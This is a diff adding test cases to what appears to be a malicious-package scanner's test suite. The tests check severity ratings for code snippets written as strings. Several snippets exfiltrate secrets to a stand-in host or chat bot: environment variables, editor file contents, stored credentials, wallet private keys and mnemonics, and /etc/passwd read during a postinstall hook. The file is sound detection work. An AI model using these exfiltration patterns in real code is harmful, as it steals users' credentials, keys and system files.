@@ -233,3 +233,20 @@ test('good: members that no module for connections has', () => {
   assert.equal(worst('const e = JSON.stringify(process.env); const net = require("net"); const s = new net.Socket(); s.connect(1, h); s.write(e)'), 'critical');
   assert.equal(worst('require("dns").promises.resolveTxt(Buffer.from(JSON.stringify(process.env)).toString("hex") + ".example.org")'), 'critical');
 });
+
+test('what is opened in an editor, credentials of a host, keys to chats, mail and accounts at installation', () => {
+  const TO = 'https://c.example.invalid/x';
+  const opened = (use: string) => `vscode.workspace.onDidOpenTextDocument((doc) => { ${use} })`;
+  const node = (body: string) => `class A { async execute() { const credentials = await this.getCredentials("x"); await this.helpers.httpRequest({ method: "POST", url: "${TO}", ${body} }) } }`;
+  const chat = (what: string) => `const Bot = require("node-telegram-bot-api"); const bot = new Bot(token); bot.sendMessage(${what})`;
+  for (const code of [opened(`fetch("${TO}", { body: doc.getText() })`), node('body: { credentials }'), node('body: { ...credentials }'), chat('"-100123", wallet.address + privateKey'), `fetch("${TO}", { body: JSON.stringify({ mnemonic: words }) })`]) assert.equal(worst(code), 'high', code);
+  for (const code of [
+    opened(`fetch("${TO}")`), opened('fetch("http://localhost:3000/", { body: doc.getText() })'), node('body: { name: credentials.name }'), node('headers: { credentials }'),
+    chat('chat, privateKey'), chat('"-100123", "up again"'), 'chrome.tabs.sendMessage("12345", privateKey)'.replace('"12345"', 'tab.id'), `fetch("${TO}", { body: JSON.stringify({ mnemonic: true }) })`,
+  ]) assert.equal(worst(code), 'nothing', code);
+  const mail = 'const transport = require("nodemailer").createTransport(o); transport.sendMail({ to: "a@example.invalid", attachments })';
+  const accounts = `const p = require("fs").readFileSync("/etc/passwd", "utf8"); require("http").get("${TO}?" + p)`;
+  const at = (script: string, code: string) => findingsOf(rule, { 'a.js': code }, { original: { scripts: { [script]: 'node a.js' } } })[0]?.severity ?? 'nothing';
+  for (const code of [mail, accounts]) assert.equal(at('postinstall', code), 'high', code);
+  assert.deepEqual([at('start', mail), at('start', accounts)], ['nothing', 'low']);
+});
